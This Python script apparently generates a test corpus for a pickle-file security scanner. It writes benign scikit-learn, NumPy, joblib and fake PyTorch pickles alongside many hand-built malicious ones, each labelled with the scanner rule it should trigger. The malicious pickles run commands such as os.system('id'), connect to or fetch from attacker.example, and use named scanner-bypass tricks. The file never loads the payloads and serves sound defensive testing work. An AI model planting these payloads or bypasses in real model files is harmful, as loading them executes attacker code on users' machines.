"""Pickle corpus: real benign pickles (plain pickle, NumPy, scikit-learn, joblib, PyTorch-format
state dicts) and hostile ones reproducing known attacks and scanner bypasses.

Hostile samples are written opcode by opcode, or by objects whose __reduce__ returns a
dangerous callable; pickling such an object only records the callable's name. Nothing here
ever loads a hostile sample.

Layout under OUT/pickle/:
  benign/      raw pickle streams that must produce nothing at medium or above
  malicious/   raw pickle streams that must be caught
  containers/  pickles inside zip/zlib/gzip (PyTorch zip checkpoints, joblib compress=):
               judged by the container analyzers, which hand the members to the pickle one
"""
import collections
import datetime
import io
import os
import pathlib
import pickle
import struct
import sys
import types
import warnings
import zipfile

warnings.filterwarnings("ignore")

import joblib  # noqa: E402
import numpy as np  # noqa: E402


# ---- opcode helpers ---------------------------------------------------------------------

def su(s):
    """SHORT_BINUNICODE."""
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def bu(s):
    """BINUNICODE."""
    b = s.encode() if isinstance(s, str) else s
    return b"X" + struct.pack("<I", len(b)) + b


def bb(b):
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(b)) + b


def g(mod, name):
    """GLOBAL (text form, any protocol)."""
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def sg(mod, name):
    """STACK_GLOBAL (protocol 4)."""
    return su(mod) + su(name) + b"\x93"


def tup(*items):
    return b"(" + b"".join(items) + b"t"


def call(fn, *args):
    """fn(*args) via REDUCE."""
    return fn + tup(*args) + b"R"


P2 = b"\x80\x02"
P4 = b"\x80\x04"
STOP = b"."


def p2(body):
    return P2 + body + STOP


class Reduce:
    """An object that pickles as `func(*args)`. Pickling it never calls func."""

    def __init__(self, func, args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


# ---- stand-in torch ----------------------------------------------------------------------

def install_fake_torch():
    """Registers modules named `torch` and `torch._utils` with the names torch.save writes,
    so that the standard pickler produces exactly torch's data.pkl layout."""
    torch = types.ModuleType("torch")
    utils = types.ModuleType("torch._utils")

    def _rebuild_tensor_v2(storage, storage_offset, size, stride, requires_grad, backward_hooks, metadata=None):
        raise RuntimeError("stand-in, never called")

    def _rebuild_parameter(data, requires_grad, backward_hooks):
        raise RuntimeError("stand-in, never called")

    for f in (_rebuild_tensor_v2, _rebuild_parameter):
        f.__module__ = "torch._utils"
        f.__qualname__ = f.__name__
        setattr(utils, f.__name__, f)
    storages = {}
    for name in ("FloatStorage", "LongStorage", "HalfStorage", "BFloat16Storage"):
        cls = type(name, (), {"__module__": "torch"})
        cls.__qualname__ = name
        setattr(torch, name, cls)
        storages[name] = cls
    torch._utils = utils
    sys.modules["torch"] = torch
    sys.modules["torch._utils"] = utils
    return torch, utils, storages


class FakeStorage:
    def __init__(self, storage_type, key, data):
        self.storage_type, self.key, self.data = storage_type, key, data


class FakeTensor:
    def __init__(self, storage, size, requires_grad=False, param=False):
        self.storage, self.size, self.requires_grad, self.param = storage, size, requires_grad, param

    def __reduce_ex__(self, proto):
        utils = sys.modules["torch._utils"]
        stride = []
        acc = 1
        for d in reversed(self.size):
            stride.insert(0, acc)
            acc *= d
        t = (utils._rebuild_tensor_v2,
             (self.storage, 0, tuple(self.size), tuple(stride), self.requires_grad, collections.OrderedDict()))
        if self.param:
            return (utils._rebuild_parameter, (Reduce(*t), self.requires_grad, collections.OrderedDict()))
        return t


class TorchPickler(pickle.Pickler):
    """torch.save's persistent_id: ('storage', storage_type, key, location, numel)."""

    legacy = False

    def persistent_id(self, obj):
        if isinstance(obj, FakeStorage):
            numel = len(obj.data) // 4
            if self.legacy:
                return ("storage", obj.storage_type, obj.key, "cpu", numel, None)
            return ("storage", obj.storage_type, obj.key, "cpu", numel)
        return None


def torch_state_dict(storages, extra=None):
    """A small model's state_dict: OrderedDict name -> tensor, with `_metadata`."""
    rng = np.random.default_rng(0)
    w = FakeStorage(storages["FloatStorage"], "0", rng.standard_normal(384).astype("<f4").tobytes())
    b = FakeStorage(storages["FloatStorage"], "1", rng.standard_normal(4).astype("<f4").tobytes())
    sd = collections.OrderedDict()
    sd["fc.weight"] = FakeTensor(w, [4, 96])
    sd["fc.bias"] = FakeTensor(b, [4])
    if extra:
        sd.update(extra)
    sd._metadata = collections.OrderedDict([("", {"version": 1}), ("fc", {"version": 1})])
    return sd, [w, b]


def torch_pickle(obj, legacy=False):
    buf = io.BytesIO()
    p = TorchPickler(buf, protocol=2)
    p.legacy = legacy
    p.dump(obj)
    return buf.getvalue()


def torch_zip(path, data_pkl, storages):
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", data_pkl)
        z.writestr("archive/byteorder", "little")
        for s in storages:
            z.writestr(f"archive/data/{s.key}", s.data)
        z.writestr("archive/version", "3\n")


def torch_legacy(obj, storages):
    """torch.save(obj, f, _use_new_zipfile_serialization=False)."""
    out = io.BytesIO()
    pickle.dump(0x1950A86A20F9469CFC6C, out, protocol=2)
    pickle.dump(1001, out, protocol=2)
    pickle.dump({"protocol_version": 1001, "little_endian": True,
                 "type_sizes": {"short": 2, "int": 4, "long": 4}}, out, protocol=2)
    p = TorchPickler(out, protocol=2)
    p.legacy = True
    p.dump(obj)
    pickle.dump(sorted(s.key for s in storages), out, protocol=2)
    for s in sorted(storages, key=lambda s: s.key):
        out.write(struct.pack("<q", len(s.data) // 4))
        out.write(s.data)
    return out.getvalue()


# ---- the corpus --------------------------------------------------------------------------

def generate(out: pathlib.Path) -> list:
    root = out / "pickle"
    for sub in ("benign", "malicious", "containers"):
        (root / sub).mkdir(parents=True, exist_ok=True)
    entries = []

    def add(sub, name, expect, rules, note, data=None):
        """Records a sample (writing `data` when given; otherwise the file already exists)."""
        if data is not None:
            (root / sub / name).write_bytes(data)
        entries.append({"path": f"pickle/{sub}/{name}", "expect": expect,
                        "rules": rules if expect == "malicious" else [], "note": note})

    def benign(name, data, note, sub="benign"):
        add(sub, name, "benign", [], note, data)

    def bad(name, data, rules, note, sub="malicious"):
        add(sub, name, "malicious", rules, note, data)

    benign_samples(root, benign, add)
    malicious_samples(root, bad, add)
    return entries


def benign_samples(root, benign, add):
    from sklearn.datasets import load_digits, load_iris
    from sklearn.ensemble import (GradientBoostingClassifier, HistGradientBoostingClassifier,
                                  RandomForestClassifier)
    from sklearn.linear_model import LogisticRegression
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.neural_network import MLPClassifier
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import LabelEncoder, StandardScaler
    from sklearn.svm import SVC
    from sklearn.tree import DecisionTreeClassifier

    plain = {
        "name": "example", "version": (1, 2, 3), "weights": [0.5, -1.25, 3e-8, float("inf")],
        "flags": {True, False}, "frozen": frozenset({1, 2}), "blob": b"\x00\x01binary",
        "big": 2 ** 100, "neg": -(2 ** 70), "nested": {"a": [{"b": None}]}, "text": "café ☕",
        "order": collections.OrderedDict([("x", 1), ("y", 2)]), "when": datetime.datetime(2024, 1, 2, 3, 4, 5),
        "span": slice(1, 10, 2), "rng": range(5), "complex": 1 + 2j, "ba": bytearray(b"abc"),
    }
    for p in range(6):
        benign(f"plain_p{p}.pkl", pickle.dumps(plain, protocol=p),
               f"pickle.dump of dicts/lists/sets/OrderedDict/datetime/bytes, protocol {p}")

    arrays = {
        "f32": np.arange(12, dtype="<f4").reshape(3, 4),
        "i64_fortran": np.asfortranarray(np.arange(6).reshape(2, 3)),
        "strings": np.array(["a", "bc"]),
        "objects": np.array(["x", 1, None], dtype=object),
        "dates": np.array(["2024-01-01"], dtype="M8[D]"),
        "structured": np.zeros(2, dtype=[("a", "<f4"), ("b", "<i8")]),
        "scalar": np.float64(2.5),
        "masked": np.ma.masked_array([1, 2, 3], mask=[0, 1, 0]),
        "rs": np.random.RandomState(0),
        "gen": np.random.default_rng(1),
    }
    for p in range(6):
        benign(f"numpy_p{p}.pkl", pickle.dumps(arrays, protocol=p),
               f"NumPy arrays (float, fortran, str, object, datetime, structured, masked), "
               f"scalars and random states, protocol {p}")

    X, y = load_iris(return_X_y=True)
    labels = np.array(["setosa", "versicolor", "virginica"])[y]
    Xd, yd = load_digits(return_X_y=True)
    models = {
        "iris_logreg": LogisticRegression(max_iter=500).fit(X, labels),
        "iris_pipeline_rf": Pipeline([("scale", StandardScaler()),
                                      ("rf", RandomForestClassifier(n_estimators=5, random_state=0))]).fit(X, y),
        "iris_gb": GradientBoostingClassifier(n_estimators=5).fit(X, y),
        "iris_hgb": HistGradientBoostingClassifier(max_iter=5).fit(X, y),
        "iris_knn": KNeighborsClassifier().fit(X, y),
        "iris_tree": DecisionTreeClassifier().fit(X, labels),
        "digits_svc": SVC(probability=True).fit(Xd[:400], yd[:400]),
        "digits_mlp": MLPClassifier(max_iter=30, random_state=0).fit(Xd[:400], yd[:400]),
        "label_encoder": LabelEncoder().fit(labels),
    }
    for name, model in models.items():
        benign(f"sklearn_{name}.pkl", pickle.dumps(model),
               f"scikit-learn {type(model).__name__} trained on a bundled data set, pickle.dump (protocol 5)")
    for p in (0, 2):
        benign(f"sklearn_iris_pipeline_rf_p{p}.pkl", pickle.dumps(models["iris_pipeline_rf"], protocol=p),
               f"scikit-learn pipeline (StandardScaler + RandomForest), protocol {p}: copy_reg._reconstructor")
    tmp = root / "benign"
    for name in ("iris_logreg", "iris_pipeline_rf", "iris_hgb", "digits_mlp"):
        joblib.dump(models[name], tmp / f"sklearn_{name}.joblib")
        add("benign", f"sklearn_{name}.joblib", "benign", [],
            f"joblib.dump of scikit-learn {type(models[name]).__name__}: raw array bytes after each "
            "NumpyArrayWrapper (object arrays as nested pickles)")
    joblib.dump(arrays, tmp / "numpy_arrays.joblib")
    add("benign", "numpy_arrays.joblib", "benign", [],
        "joblib.dump of NumPy arrays incl. object, structured and fortran-ordered")
    for p in (0, 1, 2):
        joblib.dump(models["iris_logreg"], tmp / f"sklearn_iris_logreg_p{p}.joblib", protocol=p)
        add("benign", f"sklearn_iris_logreg_p{p}.joblib", "benign", [],
            f"joblib.dump protocol {p} (no frames; protocols 0/1 build the wrapper with "
            "copy_reg._reconstructor)")

    torch, utils, storages = install_fake_torch()
    try:
        sd, sts = torch_state_dict(storages)
        data_pkl = torch_pickle(sd)
        benign("torch_state_dict_data.pkl", data_pkl,
               "PyTorch state_dict data.pkl exactly as torch.save writes it (protocol 2, persistent ids "
               "('storage', torch.FloatStorage, key, 'cpu', numel), _rebuild_tensor_v2, OrderedDict _metadata)")
        ckpt = {"epoch": 3, "model": sd, "optimizer": {"state": {}, "param_groups": [{"lr": 0.1, "params": [0, 1]}]},
                "param": FakeTensor(sts[1], [4], requires_grad=True, param=True)}
        benign("torch_checkpoint_data.pkl", torch_pickle(ckpt),
               "PyTorch training checkpoint data.pkl: nested dicts, optimizer state, an nn.Parameter")
        benign("pytorch_model_legacy.bin", torch_legacy(sd, sts),
               "PyTorch legacy (non-zip) torch.save: magic, protocol, sys_info, object, storage keys pickles, "
               "then raw storage bytes (first storage has 384 elements: its count starts 0x80 0x01 like PROTO 1)")
        torch_zip(root / "containers" / "torch_state_dict.pt", data_pkl, sts)
        add("containers", "torch_state_dict.pt", "benign", [],
            "PyTorch zip checkpoint (archive/data.pkl, data/0, version, byteorder), stored")
    finally:
        for m in ("torch", "torch._utils"):
            sys.modules.pop(m, None)

    for comp, suffix in ((3, "zlib"), (("gzip", 3), "gz")):
        joblib.dump(models["iris_pipeline_rf"], root / "containers" / f"sklearn_pipeline.joblib.{suffix}",
                    compress=comp)
        add("containers", f"sklearn_pipeline.joblib.{suffix}", "benign", [],
            f"joblib.dump(compress={comp!r}) of a scikit-learn pipeline")


def malicious_samples(root, bad, add):
    # -- classic command execution ---------------------------------------------------------
    bad("os_system_p0.pkl", g("os", "system") + b"(S'id'\ntR.", ["PKL001"],
        "protocol 0: cos\\nsystem\\n(S'id'\\ntR. (the textbook pickle RCE)")
    bad("posix_system_reduce.pkl", pickle.dumps(Reduce(os.system, ("id",)), protocol=4), ["PKL001"],
        "__reduce__ returning os.system: pickled as posix.system, protocol 4 STACK_GLOBAL")
    bad("nt_system.pkl", p2(call(g("nt", "system"), bu("calc.exe"))), ["PKL001"],
        "nt.system (Windows spelling of os.system)")
    import subprocess
    bad("subprocess_popen.pkl", pickle.dumps(Reduce(subprocess.Popen, (["sh", "-c", "id"],)), protocol=2),
        ["PKL001"], "subprocess.Popen via __reduce__")
    bad("subprocess_check_output_p1.pkl",
        pickle.dumps(Reduce(subprocess.check_output, (["id"],)), protocol=1), ["PKL001"],
        "subprocess.check_output, protocol 1")
    bad("builtin_eval_p0.pkl", g("__builtin__", "eval") + b"(S'__import__(\"os\").system(\"id\")'\ntR.",
        ["PKL001"], "__builtin__.eval in protocol 0: fix_imports maps it to builtins.eval")
    bad("builtin_exec_p2.pkl", p2(call(g("__builtin__", "exec"), bu("import os; os.system('id')"))), ["PKL001"],
        "__builtin__.exec, protocol 2")
    bad("getattr_import_chain.pkl",
        P4 + sg("builtins", "getattr") + b"(" + sg("builtins", "__import__") + su("os") + b"\x85R" + su("system")
        + b"tR" + su("id") + b"\x85R.", ["PKL001", "PKL002"],
        "builtins.getattr(__import__('os'), 'system')('id'): attribute-chain gadget")
    bad("getattr_self_chain.pkl",
        P4 + sg("builtins", "getattr.__self__") + b"\x94" + b"0" + sg("builtins", "getattr") + b"h\x00"
        + su("exec") + b"\x86R" + su("print(1)") + b"\x85R.", ["PKL001"],
        "builtins.getattr.__self__ (the builtins module through a dotted qualname), then getattr(..., 'exec')")
    bad("operator_attrgetter.pkl",
        p2(call(call(g("operator", "attrgetter"), bu("system")), call(g("importlib", "import_module"), bu("os")))
           + tup(bu("id")) + b"R"), ["PKL001"],
        "operator.attrgetter('system')(importlib.import_module('os'))('id')")
    bad("operator_methodcaller.pkl",
        p2(call(call(g("operator", "methodcaller"), bu("system"), bu("id")), call(g("builtins", "__import__"), bu("os")))),
        ["PKL001"], "operator.methodcaller('system', 'id')(__import__('os'))")
    bad("functools_partial.pkl", p2(call(call(g("functools", "partial"), g("os", "system"), bu("id")))), ["PKL001"],
        "functools.partial(os.system, 'id')()")
    bad("pip_main.pkl", p2(call(g("pip", "main"), b"]" + b"(" + bu("install") + bu("evil-package") + b"e")),
        ["PKL001"], "pip.main(['install', 'evil-package']) (CVE-2025-1716, picklescan bypass)")
    bad("runpy_run_code.pkl", p2(call(g("runpy", "_run_code"), bu("import os; os.system('id')"), b"}")),
        ["PKL001"], "runpy._run_code(source, {})")
    bad("asyncio_subprocess_shell.pkl", p2(call(g("asyncio", "create_subprocess_shell"), bu("id"))), ["PKL001"],
        "asyncio.create_subprocess_shell('id')")
    bad("asyncio_submodule.pkl",
        P4 + sg("asyncio.unix_events", "_UnixSubprocessTransport") + b")\x81" + b"}b.", ["PKL001"],
        "asyncio.unix_events._UnixSubprocessTransport: a submodule of a blocked package "
        "(CVE-2025-10157 class: exact-name deny-lists miss submodules)")
    bad("asyncio_subprocess_exec.pkl", p2(call(g("asyncio.subprocess", "create_subprocess_exec"), bu("id"))),
        ["PKL001"], "asyncio.subprocess.create_subprocess_exec")
    bad("webbrowser_open.pkl", p2(call(g("webbrowser", "open"), bu("https://attacker.example/"))), ["PKL001"],
        "webbrowser.open")
    bad("socket_connect.pkl",
        p2(call(g("socket", "create_connection"), tup(bu("attacker.example"), b"M\x50\x00"))), ["PKL001"],
        "socket.create_connection(('attacker.example', 80))")
    bad("shutil_rmtree.pkl", p2(call(g("shutil", "rmtree"), bu("/tmp/victim"))), ["PKL001"], "shutil.rmtree")
    bad("importlib_import_module.pkl",
        p2(call(g("builtins", "getattr"), call(g("importlib", "import_module"), bu("os")), bu("system"))),
        ["PKL001"], "importlib.import_module('os') then getattr")
    inner = p2(call(g("posix", "system"), bu("id")))
    bad("pickle_loads_nested.pkl", p2(call(g("pickle", "loads"), bb(inner))), ["PKL001", "PKL006"],
        "pickle.loads(b'...') of a nested malicious pickle")
    bad("underscore_pickle_loads_p2.pkl",
        p2(call(g("_pickle", "loads"), call(g("_codecs", "encode"), bu(inner.decode("latin1")), bu("latin1")))),
        ["PKL001", "PKL006"], "_pickle.loads(_codecs.encode('<latin-1 text>', 'latin1')): protocol-2 bytes")
    code_bytes = bytes(range(16))
    bad("marshal_loads.pkl",
        p2(call(g("types", "FunctionType"), call(g("marshal", "loads"), bb(code_bytes)), b"}")), ["PKL001"],
        "types.FunctionType(marshal.loads(b'<code>'), {})")
    bad("types_codetype.pkl",
        p2(call(g("types", "FunctionType"),
                call(g("types", "CodeType"), b"K\x00K\x00K\x00K\x00K\x01K\x40", bb(b"d\x00S\x00"), b")))",
                     bu("x"), bu("f"), bu("f"), b"K\x01", bb(b""), bb(b""), b")", b")"), b"}")), ["PKL001"],
        "types.FunctionType(types.CodeType(...), {})")
    bad("code_interactive_interpreter.pkl",
        p2(call(g("builtins", "getattr"), g("code", "InteractiveInterpreter") + b")\x81", bu("runsource"))
           + tup(bu("import os; os.system('id')")) + b"R"), ["PKL001"],
        "code.InteractiveInterpreter().runsource(...)")
    bad("timeit.pkl", p2(call(g("timeit", "timeit"), bu("__import__('os').system('id')"), b"K\x01")), ["PKL001"],
        "timeit.timeit(stmt, number=1)")
    bad("cprofile_run.pkl", p2(call(g("cProfile", "run"), bu("__import__('os').system('id')"))), ["PKL001"],
        "cProfile.run(statement)")
    bad("profile_runctx.pkl", p2(call(g("profile", "runctx"), bu("__import__('os').system('id')"), b"}", b"}")),
        ["PKL001"], "profile.runctx")
    bad("pdb_run.pkl", p2(call(g("pdb", "run"), bu("__import__('os').system('id')"))), ["PKL001"], "pdb.run")
    bad("idlelib_runcode.pkl",
        p2(call(g("idlelib.pyshell", "ModifiedInterpreter.runcode"), b"N", bu("__import__('os').system('id')"))),
        ["PKL001"], "idlelib.pyshell.ModifiedInterpreter.runcode (picklescan advisory class: idlelib gadgets)")
    bad("torch_hub_load.pkl", p2(call(g("torch.hub", "load"), bu("attacker/repo"), bu("model"))), ["PKL001"],
        "torch.hub.load('attacker/repo', 'model'): downloads and runs hubconf.py")
    bad("torch_jit_load.pkl", p2(call(g("torch.jit", "load"), bu("/tmp/evil.pt"))), ["PKL001"], "torch.jit.load")
    bad("numpy_testing_runstring.pkl",
        p2(call(g("numpy.testing._private.utils", "runstring"), bu("__import__('os').system('id')"), b"}")),
        ["PKL001"], "numpy.testing._private.utils.runstring: exec gadget inside numpy")
    bad("numpy_load_pickle.pkl", p2(call(g("numpy", "load"), bu("/tmp/evil.npy"), b"\x88")), ["PKL001"],
        "numpy.load(path, allow_pickle=True)")
    bad("doctest_debug_script.pkl", p2(call(g("doctest", "debug_script"), bu("import os; os.system('id')"))),
        ["PKL001"], "doctest.debug_script")
    bad("io_fileio_read.pkl", p2(call(g("_io", "FileIO"), bu("/etc/passwd"))), ["PKL001"], "_io.FileIO (file read)")
    bad("builtins_open.pkl", p2(call(g("builtins", "open"), bu("/tmp/x"), bu("w"))), ["PKL001"], "builtins.open")
    bad("ctypes_cdll.pkl", p2(call(g("ctypes", "CDLL"), bu("libc.so.6"))), ["PKL001"], "ctypes.CDLL")
    bad("logging_os_attribute.pkl", P4 + sg("logging", "os.system") + su("id") + b"\x85R.", ["PKL001"],
        "logging.os.system: an allowed-looking module reaching os through an attribute (protocol 4 dotted name)")
    bad("antigravity_import_only.pkl", p2(g("antigravity", "geohash") + b"0N"), ["PKL001"],
        "import antigravity (module import side effect opens a browser) with no call at all")
    bad("os_environ_setitem.pkl", g("os", "environ") + b"S'LD_PRELOAD'\nS'/tmp/evil.so'\ns.", ["PKL001"],
        "os.environ['LD_PRELOAD'] = ... via SETITEM: no REDUCE anywhere")

    # -- bypass classes: names via the memo, INST/OBJ, NEWOBJ_EX, BUILD, EXT, frames ----------
    memo = (P4 + su("posix") + b"\x94" + su("system") + b"\x94" + b"00" + b"}" + su("k") + b"h\x01" + b"s0"
            + b"h\x00h\x01\x93" + su("id") + b"\x85R.")
    bad("stack_global_from_memo.pkl", memo, ["PKL001"],
        "STACK_GLOBAL whose module and name come back from the memo (BINGET), not from adjacent strings")
    bad("inst_p0.pkl", b"(S'id'\nisubprocess\ncheck_output\n.", ["PKL001"], "INST subprocess.check_output (protocol 0)")
    bad("obj_p1.pkl", b"(cos\nsystem\nX\x02\x00\x00\x00ido.", ["PKL001"], "OBJ with os.system as the class (protocol 1)")
    bad("newobj_ex.pkl", P4 + sg("subprocess", "Popen") + tup(su("id")) + b"}\x92.", ["PKL001"],
        "NEWOBJ_EX subprocess.Popen.__new__")
    bad("build_setstate_gadget.pkl",
        p2(g("mlkit.runtime", "Hook") + b")\x81" + b"}" + bu("command") + bu("id") + b"sb"), ["PKL002"],
        "unknown class instantiated by NEWOBJ then BUILD: its __setstate__ runs with attacker state")
    bad("build_slotstate_on_class.pkl",
        p2(g("collections", "OrderedDict") + b"N}" + bu("__reduce__") + g("os", "system") + b"s\x86b"),
        ["PKL001", "PKL002"], "BUILD with slotstate setting attributes on an allowed class (setattr gadget)")
    bad("ext_codes.pkl", p2(b"\x82\x01\x83\x00\x01\x86"), ["PKL004"],
        "EXT1/EXT2 extension-registry codes: the imported names are not in the file")
    class_payload = Reduce(os.system, ("id",))
    bad("framed_protocol5.pkl", pickle.dumps({"model": [1, 2, 3], "x": class_payload}, protocol=5), ["PKL001"],
        "protocol 5 FRAME'd stream with the payload inside a dict")
    full = p2(call(g("posix", "system"), bu("id")))
    bad("truncated_after_reduce.pkl", full[:-1], ["PKL001", "GEN002"],
        "stream cut right after REDUCE: Python already ran the call before failing")
    bad("bad_opcode_after_reduce.pkl", full[:-1] + b"\xff" + b"junk", ["PKL001", "GEN002"],
        "invalid opcode right after REDUCE: Python ran the call, then raised")
    bad("benign_then_malicious.pkl", pickle.dumps({"w": [1.0, 2.0]}, protocol=4) + full, ["PKL001"],
        "a benign pickle followed by a second, malicious one (loaders that call pickle.load repeatedly)")
    bad("unlisted_module.pkl", p2(call(g("mlhelpers.remote", "fetch_and_run"), bu("https://attacker.example/x"))),
        ["PKL002"], "call into a module no deny-list names (the unlisted-module bypass class)")
    bad("dynamic_global_name.pkl",
        P4 + sg("builtins", "str") + b"C\x02os\x85R" + sg("builtins", "str") + b"C\x06system\x85R\x93"
        + su("id") + b"\x85R.", ["PKL002"],
        "STACK_GLOBAL over strings built by calls: the imported name is not in the file")
    bad("reconstructor_evil_class.pkl",
        g("copy_reg", "_reconstructor") + b"(" + g("mlkit.backdoor", "Loader") + g("__builtin__", "object")
        + b"NtR(dS'cmd'\nS'id'\nsb.", ["PKL002"],
        "copy_reg._reconstructor building an unknown class (protocol 0)")
    bad("dill_create_code.pkl", p2(call(g("dill._dill", "_create_code"), b"K\x00")), ["PKL001"],
        "dill._dill._create_code")
    bad("torch_dynamo_gadget.pkl", p2(call(g("torch._dynamo.guards", "GuardBuilder.get"), bu("__import__('os')"))),
        ["PKL001"], "torch._dynamo.guards.GuardBuilder.get (eval inside torch; picklescan advisory class)")

    # -- misleading names --------------------------------------------------------------------
    for name in ("model.safetensors", "weights.bin", "README.md", "config.json", "model.npy"):
        bad(f"misnamed_{name}", pickle.dumps(Reduce(os.system, ("id",)), protocol=2 if name != "README.md" else 0),
            ["PKL001"], f"pickle payload named {name} (extension bypass, CVE-2025-1889 / CVE-2025-10155 class)")

    # -- joblib ----------------------------------------------------------------------------
    joblib.dump({"coef": np.arange(4.0), "classes": np.array([class_payload, "b"], dtype=object)},
                root / "malicious" / "joblib_object_array.joblib")
    add("malicious", "joblib_object_array.joblib", "malicious", ["PKL001"],
        "joblib object array: the nested pickle after the NumpyArrayWrapper carries os.system "
        "(known scanner bypass)")
    wrapper = (P2 + g("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + bu("shape") + b"K\x19\x85"
               + bu("dtype") + call(g("numpy", "dtype"), bu("u1"), b"\x89\x88")
               + b"(K\x03" + bu("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb" + b"ub")
    hidden = b"0" + g("posix", "system") + bu("id") + b"\x85R."
    assert len(hidden) == 0x19
    bad("joblib_pickle_load_view.pkl", wrapper + hidden + b".", ["PKL001"],
        "joblib array bytes that are opcodes: joblib.load skips them as data, pickle.load runs os.system")
    joblib.dump({"coef": np.arange(4.0), "x": class_payload}, root / "containers" / "joblib_payload.joblib.zlib",
                compress=3)
    add("containers", "joblib_payload.joblib.zlib", "malicious", ["PKL001"],
        "joblib compress=3 (zlib) with os.system inside")

    # -- torch -------------------------------------------------------------------------------
    torch, utils, storages = install_fake_torch()
    try:
        sd, sts = torch_state_dict(storages, extra={"fc.hook": class_payload})
        data_pkl = torch_pickle(sd)
        bad("torch_state_dict_payload_data.pkl", data_pkl, ["PKL001"],
            "PyTorch-format state_dict data.pkl that also calls os.system")
        torch_zip(root / "containers" / "torch_payload.pt", data_pkl, sts)
        add("containers", "torch_payload.pt", "malicious", ["PKL001"],
            "PyTorch zip checkpoint whose data.pkl calls os.system")
        bad("torch_legacy_payload.bin", torch_legacy(sd, sts), ["PKL001"],
            "PyTorch legacy-format checkpoint whose object pickle calls os.system")
    finally:
        for m in ("torch", "torch._utils"):
            sys.modules.pop(m, None)
